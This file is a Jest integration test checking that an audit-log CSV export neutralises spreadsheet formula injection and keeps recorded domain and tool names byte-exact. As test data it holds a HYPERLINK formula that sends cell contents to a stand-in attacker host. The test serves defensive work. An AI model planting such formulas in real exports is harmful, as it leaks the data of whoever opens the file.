import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { HOSTILE, recordedTexts } from '../support/hostile-texts.js';
import { type Installation, startInstallation } from '../support/installation.js';
import { type Answer, ok } from '../support/installation-http.js';
import { parseCsv } from '../support/parse-csv.js';

/** What a spreadsheet takes for the beginning of a formula. */
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;

let installation: Installation;
beforeAll(async () => {
  installation = await startInstallation();
});
afterAll(() => installation.stop());

/** Every name that the record holds and somebody else chose: a domain, a tool's name, an agent's. */
const texts = [...HOSTILE, ...recordedTexts().filter((_, n) => n % 8 === 0)];
const named = (most: number) =>
  [...new Set(texts.map((text) => text.slice(0, most).toWellFormed()))].filter((text) => text.trim());

test('names that run or hide are in the exported log as they were, to the last byte, and no cell is a formula', async () => {
  const domains = named(200);
  const tools = named(128);
  for (let n = 0; n < domains.length; n += 16) {
    await Promise.all(
      domains.slice(n, n + 16).map((domain, at) =>
        installation.agent.submit({
          request: { text: 'x' },
          domain,
          draft: { answer: '' },
          toolCall: { name: tools[(n + at) % tools.length]!, arguments: {} },
        }),
      ),
    );
  }
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"click")';
  await ok(installation.as('admin').post('/v1/agents', { name: formula }));

  const headers = await installation.as('auditor').headers();
  const response = await fetch(`${installation.baseUrl()}/v1/audit-log/export?format=csv`, { headers });
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
  expect(response.headers.get('content-disposition')).toMatch(/^attachment/);
  // `text()` would take the mark off.
  const [head, ...rows] = parseCsv(
    Buffer.from(await response.arrayBuffer())
      .toString('utf8')
      .slice(1),
  );
  const at = (name: string) => head!.indexOf(name);

  expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
  const stored: Answer[] = await installation.sql(
    `SELECT id::text, convert_from(canonical, 'UTF8') AS canonical FROM audit_entry ORDER BY audit_entry.id`,
  );
  const exported = rows.map((row) => ({ id: row[at('id')], canonical: row[at('canonical')] }));
  expect(exported).toEqual(stored.map(({ id, canonical }) => ({ id, canonical })));

  const payloads = rows.map((row) => JSON.parse(row[at('canonical')]!).payload as Answer);
  const found = (name: string) => new Set(payloads.map((payload) => payload[name]));
  expect(domains.filter((domain) => !found('domain').has(domain))).toEqual([]);
  expect(found('name')).toContain(formula);
});
